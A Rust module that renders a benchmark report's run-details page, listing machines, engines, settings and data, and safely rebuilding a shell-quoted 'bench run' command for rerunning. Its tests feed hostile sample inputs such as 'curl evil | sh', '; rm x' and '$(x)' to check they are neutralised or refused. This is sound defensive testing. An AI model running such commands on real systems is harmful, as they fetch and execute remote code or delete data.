//! Machine, versions, settings, data, protocol, and the command to measure again.

use super::markup::{Grid, Td, facts, heading, list, number, words};
use super::{View, percentiles};
use crate::plain::html as escape;
use crate::render::footer;
use bench_record::{EngineContext, Run, RunContext};
use std::fmt::Write;

pub(super) fn body(view: &View<'_>) -> String {
    let table = view.table;
    let trials: Vec<String> = table.trials_requested.iter().map(u32::to_string).collect();
    let protocol = format!("{} ({})", table.protocol, footer::meaning(table.protocol));
    let mut out = facts(&[
        ("machine", format!("{}<br><code>{}</code>", escape(&table.machine_summary), escape(&table.machine))),
        ("protocol", escape(&protocol)),
        ("suite", escape(&table.suite_text())),
        ("trials", escape(&format!("{} asked for per case and arm", trials.join(" or ")))),
        ("began", escape(&table.started_at)),
        ("bench", escape(&table.builds.join(", "))),
        ("runs", escape(&table.runs.join(", "))),
        ("answers", escape(&footer::answers(table))),
        ("emulated nodes", escape(table.emulated.as_deref().unwrap_or_default())),
    ]);
    let runs = runs(view);
    out.push_str(&heading("Measure it again"));
    for run in &runs {
        let name = escape(&view.names.name(&run.path));
        let Some(command) = again(&run.context.command_line) else {
            let what = "what it was started with is no <code>bench run</code>, and is not shown";
            let _ = write!(out, "<p class=\"note\">{name}: {what}</p>");
            continue;
        };
        let _ = write!(
            out,
            "<p class=\"note\">{name}, seed {}, build {}:</p><pre tabindex=\"0\"><code>{}</code></pre>",
            run.context.seed,
            escape(&run.context.bench.build_id),
            escape(&command)
        );
    }
    if !view.command.is_empty() {
        let _ = write!(
            out,
            "<p class=\"note\">This page, from the folders:</p><pre tabindex=\"0\"><code>{}</code></pre>",
            escape(&shell(view.command))
        );
    }
    out.push_str(&heading("Engines and their settings"));
    out.push_str(&engines(view).html());
    for run in &runs {
        out.push_str(&settings(&run.context));
    }
    out.push_str(&heading("Data"));
    out.push_str(&list(&table.datasets.iter().map(|d| escape(d)).collect::<Vec<_>>()));
    let absent = not_measured(view);
    if !absent.is_empty() {
        out.push_str(&heading("What was not measured"));
        out.push_str(&list(&absent));
    }
    out.push_str(&heading("What the words mean"));
    out.push_str(&list(&footer::meanings(table).iter().map(|t| escape(t)).collect::<Vec<_>>()));
    out
}

/// Sections that a page of other runs has and this one has not, with what would fill them.
fn not_measured(view: &View<'_>) -> Vec<String> {
    let families = &view.table.families;
    let many = percentiles::TRIALS_MIN;
    let parts = [
        (
            families.iter().all(|f| f.spans.is_empty()),
            "where slot time went: <code>bench run --spans</code>".to_owned(),
        ),
        (
            families.iter().all(|f| f.scaling.is_empty()),
            "scaling: <code>--cluster processes --nodes 1,2,4</code>, for the engine styles".to_owned(),
        ),
        (
            !families.iter().flat_map(|f| &f.workloads).flat_map(|w| &w.cells).any(|c| c.completed >= many),
            format!("percentiles of times: {many} trials of a case or more, <code>--trials {many}</code>"),
        ),
        (
            families.iter().all(|f| f.faults.is_empty()),
            "what faults cost: <code>--cluster processes --faults kill@random</code>, for the engine styles".to_owned(),
        ),
    ];
    parts.into_iter().filter(|(is_absent, _)| *is_absent).map(|(_, what)| what).collect()
}

/// The runs of a table, each once.
fn runs<'a>(view: &View<'a>) -> Vec<&'a Run> {
    let mut runs: Vec<&Run> = Vec::new();
    for source in view.sources {
        if !runs.iter().any(|known| std::ptr::eq(*known, source.run)) {
            runs.push(source.run);
        }
    }
    runs
}

fn engines(view: &View<'_>) -> Grid {
    let named = view.table.contestants.iter().filter(|c| c.ablates.is_none());
    let rows = named.map(|c| {
        vec![
            Td::text(&c.label),
            Td::text(&c.engine),
            Td::text(c.version.as_deref().unwrap_or("unknown")),
            Td::text(&c.variant),
            Td::text(&c.cluster),
            Td::text(&c.nodes.to_string()).sorted_by(Some(c.nodes.into())),
            Td::text(&c.slots.to_string()).sorted_by(Some(c.slots.into())),
            Td::text(format!("{:.2}", c.cores).trim_end_matches('0').trim_end_matches('.')).sorted_by(Some(c.cores)),
            Td::text(c.faults.as_deref().unwrap_or("none")),
        ]
    });
    Grid {
        caption: "Who was measured".to_owned(),
        heads: vec![
            words("name"),
            words("engine"),
            words("version"),
            words("variant"),
            words("cluster"),
            number("nodes"),
            number("slots"),
            number("cores"),
            words("faults"),
        ],
        rows: rows.collect(),
        filtered: false,
    }
}

/// Every switch and setting of every engine of a run, folded.
fn settings(context: &RunContext) -> String {
    let mut out = String::new();
    for engine in &context.engines {
        let all = pairs(engine);
        if all.is_empty() {
            continue;
        }
        let items: Vec<String> =
            all.iter().map(|(k, v)| format!("<code>{} = {}</code>", escape(k), escape(v))).collect();
        let _ = write!(
            out,
            "<details><summary>{} {}, {}: {} settings</summary>{}</details>",
            escape(&engine.name),
            escape(&engine.version),
            escape(&engine.variant),
            items.len(),
            list(&items)
        );
    }
    out
}

fn pairs(engine: &EngineContext) -> Vec<(String, String)> {
    let memory = engine.memory_bytes.map(|bytes| ("memory".to_owned(), bench_record::Bytes::new(bytes).to_string()));
    let switches = engine.tuning.iter().map(|(name, value)| (name.to_owned(), value.to_string()));
    let others = engine.settings.iter().map(|(name, value)| (name.clone(), value.clone()));
    memory.into_iter().chain(switches).chain(others).collect()
}

/// The command that measures the same again. Whoever made the folder chose its words, and whoever reads the page copies it into a shell:
/// it is this program that is called, wherever the recorded one was, and to run.
fn again(words: &[String]) -> Option<String> {
    let (_, arguments) = words.split_first()?;
    let verb = arguments.iter().find(|word| !word.starts_with('-'))?;
    (verb == "run").then(|| shell(&[&["bench".to_owned()], arguments].concat()))
}

/// A command line that a shell reads as these words.
fn shell(words: &[String]) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./=,:@%+".contains(c);
    let quoted = words.iter().map(|word| {
        let needs_none = !word.is_empty() && word.chars().all(plain);
        if needs_none { word.clone() } else { format!("'{}'", word.replace('\'', "'\\''")) }
    });
    quoted.collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_reach_a_shell_as_they_are() {
        let words = ["bench", "run", "--out", "my runs/$(x)", "it's", ""].map(str::to_owned);
        assert_eq!(shell(&words), "bench run --out 'my runs/$(x)' 'it'\\''s' ''");
    }

    #[test]
    fn only_this_program_is_called_again_and_only_to_run() {
        let again = |words: &[&str]| again(&words.iter().map(|w| (*w).to_owned()).collect::<Vec<_>>());
        assert_eq!(again(&["/x/bench", "-v", "run", "--suite", "1gb"]).as_deref(), Some("bench -v run --suite 1gb"));
        assert_eq!(again(&["/tmp/evil", "run", "; rm x"]).as_deref(), Some("bench run '; rm x'"));
        for words in [&["bash", "-c", "curl evil | sh"][..], &["bench", "data", "rm", "x"], &["bench"], &[]] {
            assert_eq!(again(words), None, "{words:?}");
        }
    }
}
